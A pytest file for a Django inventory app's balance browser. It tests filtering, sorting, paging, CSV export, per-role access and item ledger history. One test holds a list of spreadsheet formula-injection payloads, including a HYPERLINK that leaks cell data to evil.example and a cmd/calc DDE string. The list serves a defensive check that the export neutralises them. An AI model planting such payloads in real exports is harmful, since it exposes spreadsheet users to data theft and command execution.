"""The balance browser (owners and platform admins): filters, sorting, pages, the CSV export of
exactly the filtered rows, and an item's page with its ledger history."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django_tenants.utils import schema_context

from tests.inventory.helpers import make_catalog
from tests.page_helpers import assert_login_redirect, client_for, post, stock_keys, table_body, text

pytestmark = pytest.mark.django_db

ROW = re.compile(
    r'<tr><td><a href="/orgs/[\w-]+/items/(\d+)/">([^<]+)</a>.*?</td>\s*'
    # The quantity cell shows the figure for people; its data-value holds the stored value.
    r"<td>([^<]*)</td><td>([^<]*)</td>\s*<td class=\"num\"><span class=\"qty[^\"]*\" "
    r"data-value=\"([^\"]*)\">[^<]*</span></td>",
    re.S,
)


def rows(response, status: int = 200) -> list[tuple[str, str, str, str]]:
    """(sku, location, lot, qty) of each balance row shown."""
    assert response.status_code == status, response.status_code
    body = table_body(text(response), "balances")
    return [(sku, loc, lot, qty) for _, sku, loc, lot, qty in ROW.findall(body)]


def field_error(response, field_id: str) -> str:
    """The error shown for one field (`f-sign`, `h-before`), or fail."""
    match = re.search(
        rf'<p class="error" role="alert" id="{field_id}-error">([^<]*)</p>', text(response)
    )
    assert match, f"no error shown for {field_id}"
    return match[1]


def shown_total(response) -> int:
    return int(
        re.search(r'<p class="muted" id="result-count">(\d+) balance row', text(response))[1]
    )


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def stock(acme):
    """Four balance rows in acme: two positive (one with a lot), one negative, one zero."""
    with schema_context("acme"):
        items, locations, lots = make_catalog(items=3, locations=2, lots_per_item=1, prefix="B")
    lot0 = next(lot.code for lot in lots if lot.item_id == items[0].id)
    post(
        "acme",
        [
            {"item": "B-0000", "location": "B-LOC-0", "qty": "5", "kind": "receipt"},
            {"item": "B-0000", "location": "B-LOC-1", "qty": "3", "kind": "receipt", "lot": lot0},
            {"item": "B-0001", "location": "B-LOC-0", "qty": "-2", "kind": "adjustment"},
            {"item": "B-0002", "location": "B-LOC-1", "qty": "4", "kind": "receipt"},
        ],
    )
    post("acme", [{"item": "B-0002", "location": "B-LOC-1", "qty": "-4", "kind": "issue"}])
    return {"items": items, "lot0": lot0}


P5 = ("B-0000", "B-LOC-0", "—", "5.000000")
P3 = ("B-0000", "B-LOC-1", None, "3.000000")  # lot filled in by the test
NEG = ("B-0001", "B-LOC-0", "—", "-2.000000")
ZERO = ("B-0002", "B-LOC-1", "—", "0.000000")


def with_lot(stock):
    return ("B-0000", "B-LOC-1", stock["lot0"], "3.000000")


# --- the page ------------------------------------------------------------------------------------


def test_it_shows_the_owner_every_balance_row(as_acme_owner, stock):
    response = as_acme_owner.get("/orgs/acme/balances/")
    assert rows(response) == [P5, with_lot(stock), NEG, ZERO]
    assert shown_total(response) == 4
    assert "Acme Corporation" in text(response)


def test_platform_admins_see_any_organisations_balances(as_admin, stock):
    assert len(rows(as_admin.get("/orgs/acme/balances/"))) == 4
    assert rows(as_admin.get("/orgs/globex/balances/")) == []


def test_it_filters_by_item_sku_or_name(as_acme_owner, stock):
    assert rows(as_acme_owner.get("/orgs/acme/balances/?q=b-0001")) == [NEG]
    assert rows(as_acme_owner.get("/orgs/acme/balances/?q=Test+item+2")) == [ZERO]
    response = as_acme_owner.get("/orgs/acme/balances/?q=nothing-like-this")
    assert rows(response) == [] and "No balances match." in text(response)


def test_it_filters_by_location(as_acme_owner, stock):
    response = as_acme_owner.get("/orgs/acme/balances/?location=B-LOC-1")
    assert rows(response) == [with_lot(stock), ZERO]
    assert '<option value="B-LOC-1" selected>' in text(response)


def test_it_filters_by_lot_code_or_no_lot(as_acme_owner, stock):
    assert rows(as_acme_owner.get(f"/orgs/acme/balances/?lot={stock['lot0']}")) == [with_lot(stock)]
    assert rows(as_acme_owner.get("/orgs/acme/balances/?lot=none")) == [P5, NEG, ZERO]


def test_it_filters_by_sign(as_acme_owner, stock):
    assert rows(as_acme_owner.get("/orgs/acme/balances/?sign=zero")) == [ZERO]
    assert rows(as_acme_owner.get("/orgs/acme/balances/?sign=negative")) == [NEG]
    assert rows(as_acme_owner.get("/orgs/acme/balances/?sign=positive")) == [P5, with_lot(stock)]
    # An unknown sign is a 400 that says so; the other filters (none here) still apply.
    response = as_acme_owner.get("/orgs/acme/balances/?sign=imaginary")
    assert len(rows(response, status=400)) == 4
    assert field_error(response, "f-sign").startswith("Balance: Select a valid choice.")


def test_it_combines_filters(as_acme_owner, stock):
    assert rows(as_acme_owner.get("/orgs/acme/balances/?q=B-0000&lot=none&sign=positive")) == [P5]


def test_it_sorts(as_acme_owner, stock):
    assert rows(as_acme_owner.get("/orgs/acme/balances/?sort=-qty")) == [
        P5,
        with_lot(stock),
        ZERO,
        NEG,
    ]
    assert rows(as_acme_owner.get("/orgs/acme/balances/?sort=qty")) == [
        NEG,
        ZERO,
        with_lot(stock),
        P5,
    ]
    assert [r[0] for r in rows(as_acme_owner.get("/orgs/acme/balances/?sort=-item"))] == [
        "B-0002",
        "B-0001",
        "B-0000",
        "B-0000",
    ]
    assert rows(as_acme_owner.get("/orgs/acme/balances/?sort=location")) == [
        P5,
        NEG,
        with_lot(stock),
        ZERO,
    ]
    # An unknown sort is a 400 naming the field, the rows in the item order.
    response = as_acme_owner.get("/orgs/acme/balances/?sort=password")
    assert rows(response, status=400) == rows(as_acme_owner.get("/orgs/acme/balances/"))
    assert field_error(response, "f-sort").startswith("Sort: Select a valid choice.")


def test_it_keeps_the_filters_in_sort_and_export_links(as_acme_owner, stock):
    html = text(as_acme_owner.get("/orgs/acme/balances/?location=B-LOC-1&sign=zero&sort=-qty"))
    assert 'href="/orgs/acme/balances.csv?location=B-LOC-1&amp;sign=zero&amp;sort=-qty"' in html
    assert 'href="?location=B-LOC-1&amp;sign=zero&amp;sort=location"' in html


def test_it_pages_fifty_rows_at_a_time(as_acme_owner, acme):
    stock_keys("acme", 60, prefix="P")
    first = as_acme_owner.get("/orgs/acme/balances/")
    second = as_acme_owner.get("/orgs/acme/balances/?page=2")
    assert shown_total(first) == shown_total(second) == 60
    assert len(rows(first)) == 50 and len(rows(second)) == 10
    assert "Page 1 of 2" in text(first) and 'rel="next"' in text(first)
    assert "Page 2 of 2" in text(second) and 'rel="prev"' in text(second)
    skus = [r[0] for r in rows(first) + rows(second)]
    assert skus == sorted(skus) and len(set(skus)) == 60
    # A page past the last shows the last; a junk page number is a 400 over the first page.
    assert len(rows(as_acme_owner.get("/orgs/acme/balances/?page=99"))) == 10
    junk = as_acme_owner.get("/orgs/acme/balances/?page=x")
    assert len(rows(junk, status=400)) == 50 and "Page 1 of 2" in text(junk)
    assert field_error(junk, "f-page") == "Page: Enter a whole number. (“x”)"


def test_it_pages_within_a_filter(as_acme_owner, acme):
    stock_keys("acme", 60, prefix="P")
    # P-0000 .. P-0059: "P-000" matches the first 10 only.
    response = as_acme_owner.get("/orgs/acme/balances/?q=P-000&page=2")
    assert shown_total(response) == 10 and len(rows(response)) == 10
    assert "Page 1 of 1" in text(response)


# --- outsiders -----------------------------------------------------------------------------------

PAGES = ["/orgs/acme/balances/", "/orgs/acme/balances.csv"]


@pytest.mark.parametrize("path", PAGES)
def test_another_organisations_owner_gets_404(path, as_globex_owner, stock):
    assert as_globex_owner.get(path).status_code == 404


@pytest.mark.parametrize("path", PAGES)
def test_it_tells_support_staff_why_they_cannot_see_balances(path, as_acme_support, stock):
    # They know acme (it is in their queue): a 403 with the reason, not "No such organisation".
    response = as_acme_support.get(path)
    assert response.status_code == 403
    html = text(response)
    assert "Your role in Acme Corporation is support" in html and "owners and admins" in html
    assert "No such organisation" not in html and "B-0000" not in html
    assert 'href="/"' in html  # a way back


@pytest.mark.parametrize("path", PAGES)
def test_anonymous_visitors_are_asked_to_log_in_for_balances(path, anon):
    assert_login_redirect(anon.get(path), path)


def test_an_org_admin_member_sees_the_balances(acme, stock):
    from tests.factories import make_user

    user = make_user("acme-admin", org=acme, role="admin")
    assert len(rows(client_for(user).get("/orgs/acme/balances/"))) == 4


def test_unknown_organisation_is_404(as_admin):
    assert as_admin.get("/orgs/nope/balances/").status_code == 404
    assert as_admin.get("/orgs/nope/balances.csv").status_code == 404


def test_a_post_to_the_balances_page_writes_no_balance(as_acme_owner, stock):
    """The page takes one POST, the owner's stock policy; balances only change through the ledger."""
    from inventory.models import Balance

    with schema_context("acme"):
        before = sorted(Balance.objects.values_list("id", "qty_canonical"))
    response = as_acme_owner.post("/orgs/acme/balances/", {"qty_canonical": "999"})
    assert response.status_code == 200
    with schema_context("acme"):
        assert sorted(Balance.objects.values_list("id", "qty_canonical")) == before
    assert as_acme_owner.put("/orgs/acme/balances/").status_code == 405


# --- CSV -----------------------------------------------------------------------------------------


def test_the_csv_holds_exactly_the_filtered_rows(as_acme_owner, stock):
    query = "location=B-LOC-1&sort=-qty"
    page = as_acme_owner.get(f"/orgs/acme/balances/?{query}")
    response = as_acme_owner.get(f"/orgs/acme/balances.csv?{query}")
    assert response["Content-Disposition"] == 'attachment; filename="acme-balances.csv"'
    header, *data = csv_rows(response)
    assert header == ["sku", "item", "unit", "location", "lot", "qty", "updated_at"]
    assert len(data) == shown_total(page) == 2
    assert [(r[0], r[3], r[4] or "—", r[5]) for r in data] == rows(page)
    assert data[0][1:3] == ["Test item 0", "g"]


@pytest.mark.parametrize(
    "query", ["", "sign=negative", "lot=none", "q=B-0000", "q=zzz", "sign=positive&sort=-qty"]
)
def test_the_csv_count_matches_the_page_for_every_filter(query, as_acme_owner, stock):
    page = as_acme_owner.get(f"/orgs/acme/balances/?{query}")
    _, *data = csv_rows(as_acme_owner.get(f"/orgs/acme/balances.csv?{query}"))
    assert len(data) == shown_total(page)
    assert [(r[0], r[3], r[4] or "—", r[5]) for r in data] == rows(page)


@pytest.mark.parametrize(
    "query",
    [
        "sign=imaginary",
        "page=-1",
        "page=NaN",
        "page=%C2%B2",  # '²'
        "q=" + "x" * 101,
        "location=" + "L" * 65,
        "lot=" + "x" * 65,
        "location=B-LOC-1&sort=password",
    ],
)
def test_the_csv_refuses_a_bad_filter_with_a_400_and_no_file(query, as_acme_owner, stock):
    """The export reads the page's form: a filter the page refuses is no file of other rows."""
    response = as_acme_owner.get(f"/orgs/acme/balances.csv?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response
    field = query.split("&")[-1].split("=")[0]
    label = {"q": "Item (SKU or name)", "location": "Location", "lot": "Lot", "sign": "Balance"}
    assert response.content.decode().startswith(label.get(field, field.capitalize()) + ": ")
    assert "sku,item" not in response.content.decode()


def test_the_export_link_of_a_page_with_a_bad_filter_holds_the_rows_shown(as_acme_owner, stock):
    page = as_acme_owner.get("/orgs/acme/balances/?location=B-LOC-1&sign=imaginary&sort=-qty")
    shown = rows(page, status=400)
    assert shown == [with_lot(stock), ZERO]
    link = re.search(r'href="(/orgs/acme/balances\.csv[^"]*)" id="export-csv"', text(page))[1]
    assert link == "/orgs/acme/balances.csv?location=B-LOC-1&amp;sort=-qty"
    _, *data = csv_rows(as_acme_owner.get(link.replace("&amp;", "&")))
    assert [(r[0], r[3], r[4] or "—", r[5]) for r in data] == shown


def test_the_csv_holds_every_page(as_acme_owner, acme):
    stock_keys("acme", 60, prefix="P")
    _, *data = csv_rows(as_acme_owner.get("/orgs/acme/balances.csv"))
    assert len(data) == 60 == shown_total(as_acme_owner.get("/orgs/acme/balances/"))
    assert {r[5] for r in data} == {"5.000000"}


NASTY_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_it_neutralises_formulas_in_csv_text_cells(as_acme_owner, acme):
    from inventory.models import Item, Location, Lot

    with schema_context("acme"):
        items = [
            Item.objects.create(sku=f"=X{n}", name=name, unit="ea")
            for n, name in enumerate(NASTY_NAMES)
        ]
        Location.objects.create(code="@LOC", name="x")
        Lot.objects.create(item=items[0], code="-LOT")
    post(
        "acme",
        [{"item": i.sku, "location": "@LOC", "qty": "-5", "kind": "adjustment"} for i in items]
        + [{"item": "=X0", "location": "@LOC", "lot": "-LOT", "qty": "-1.25", "kind": "receipt"}],
    )
    _, *data = csv_rows(as_acme_owner.get("/orgs/acme/balances.csv?sort=item"))
    by_name = {r[1]: r for r in data}
    for n, name in enumerate(NASTY_NAMES):
        row = by_name["'" + name]
        assert row[0] == f"'=X{n}" and row[3] == "'@LOC"
    with_lot = next(r for r in data if r[4])
    assert with_lot[4] == "'-LOT" and with_lot[5] == "-1.250000"
    # Quantities stay exact numbers: negative ones are not quoted, nor prefixed.
    assert sorted(r[5] for r in data) == ["-1.250000"] + ["-5.000000"] * len(NASTY_NAMES)
    raw = b"".join(as_acme_owner.get("/orgs/acme/balances.csv").streaming_content).decode()
    assert ",-5.000000," in raw and "'-5" not in raw


def test_it_leaves_ordinary_csv_text_as_it_is(as_acme_owner, stock):
    _, *data = csv_rows(as_acme_owner.get("/orgs/acme/balances.csv"))
    assert {r[0] for r in data} == {"B-0000", "B-0001", "B-0002"}
    assert all(not cell.startswith("'") for r in data for cell in r)


# --- item page -----------------------------------------------------------------------------------


def test_it_shows_an_items_balances_per_location_and_lot(as_acme_owner, stock):
    item = stock["items"][0]
    response = as_acme_owner.get(f"/orgs/acme/items/{item.id}/")
    assert response.status_code == 200
    html = text(response)
    assert (
        '<strong id="item-total"><span class="qty" data-value="8.000000">8</span>'
        f'\u00a0<span class="unit">{item.unit}</span></strong>' in html
    )
    body = table_body(html, "item-balances")
    found = re.findall(
        r"<tr><td>([^<]*)</td><td>([^<]*)</td><td>[^<]*</td><td[^>]*>"
        r"<span class=\"qty[^\"]*\" data-value=\"([^\"]*)\">",
        body,
    )
    assert found == [("B-LOC-0", "—", "5.000000"), ("B-LOC-1", stock["lot0"], "3.000000")]


def history_ids(response, status: int = 200) -> list[int]:
    assert response.status_code == status, response.status_code
    return [
        int(i) for i in re.findall(r"<tr><td>(\d+)</td>", table_body(text(response), "history"))
    ]


def test_it_shows_the_ledger_history_newest_first_in_pages(as_acme_owner, acme):
    with schema_context("acme"):
        items, locations, _ = make_catalog(items=2, locations=1, lots_per_item=0, prefix="H")
    posted = []
    for n in range(55):
        result = post(
            "acme",
            [{"item": "H-0000", "location": "H-LOC-0", "qty": str(n + 1), "kind": "receipt"}],
        )
        posted.append(result.entries[0].id)
    post("acme", [{"item": "H-0001", "location": "H-LOC-0", "qty": "1", "kind": "receipt"}])
    newest_first = sorted(posted, reverse=True)

    first = as_acme_owner.get(f"/orgs/acme/items/{items[0].id}/")
    assert history_ids(first) == newest_first[:50]
    match = re.search(r'href="\?before=(\d+)" rel="next"', text(first))
    assert match and int(match[1]) == newest_first[49]
    assert ">Newest</a>" not in text(first)

    second = as_acme_owner.get(f"/orgs/acme/items/{items[0].id}/?before={match[1]}")
    assert history_ids(second) == newest_first[50:]
    assert 'rel="next"' not in text(second)
    assert f'href="/orgs/acme/items/{items[0].id}/">Newest</a>' in text(second)
    # A junk cursor is a 400 naming it, over the first page.
    junk = as_acme_owner.get(f"/orgs/acme/items/{items[0].id}/?before=x")
    assert history_ids(junk, status=400) == newest_first[:50]
    assert field_error(junk, "h-before") == "Older than: Enter a whole number. (“x”)"


def test_it_pages_the_history_by_a_bounded_limit(as_acme_owner, acme):
    with schema_context("acme"):
        [item], _, _ = make_catalog(items=1, locations=1, lots_per_item=0, prefix="L")
    entries = [{"item": "L-0000", "location": "L-LOC-0", "qty": "1", "kind": "receipt"}] * 25
    ids = sorted((e.id for e in post("acme", entries).entries), reverse=True)
    path = f"/orgs/acme/items/{item.id}/"

    first = as_acme_owner.get(f"{path}?limit=10")
    assert history_ids(first) == ids[:10]
    assert f'href="?before={ids[9]}&amp;limit=10" rel="next"' in text(first)
    assert history_ids(as_acme_owner.get(f"{path}?before={ids[9]}&limit=10")) == ids[10:20]
    # The largest BIGINT is a cursor before every row; one more is refused, not sent to SQL.
    assert history_ids(as_acme_owner.get(f"{path}?before={2**63 - 1}")) == ids
    too_big = as_acme_owner.get(f"{path}?before={2**63}")
    assert history_ids(too_big, status=400) == ids
    assert field_error(too_big, "h-before").startswith(
        "Older than: Ensure this value is less than or equal to 9223372036854775807."
    )
    too_many = as_acme_owner.get(f"{path}?limit=201")
    assert history_ids(too_many, status=400) == ids  # the default page of 50
    assert field_error(too_many, "h-limit").startswith(
        "Rows: Ensure this value is less than or equal to 200."
    )


def test_an_item_without_movements_says_so(as_acme_owner, acme):
    with schema_context("acme"):
        [item], _, _ = make_catalog(items=1, locations=1, lots_per_item=0, prefix="E")
    html = text(as_acme_owner.get(f"/orgs/acme/items/{item.id}/"))
    assert "No movements." in html and "No stock recorded." in html


def test_it_lets_support_read_an_item_their_queue_links_to(as_acme_support, stock):
    # The discrepancy queue links every row to its item; support may read it (not browse balances).
    item = stock["items"][0]
    response = as_acme_support.get(f"/orgs/acme/items/{item.id}/")
    assert response.status_code == 200
    assert item.sku in text(response)


def test_an_unknown_item_is_404(as_acme_owner, stock):
    assert as_acme_owner.get("/orgs/acme/items/999999/").status_code == 404


def test_outsiders_cannot_see_an_item(as_globex_owner, anon, stock):
    item = stock["items"][0]
    path = f"/orgs/acme/items/{item.id}/"
    assert as_globex_owner.get(path).status_code == 404
    assert_login_redirect(anon.get(path), path)
    # Nor through their own organisation's URL (the id belongs to acme's schema).
    assert as_globex_owner.get(f"/orgs/globex/items/{item.id}/").status_code == 404

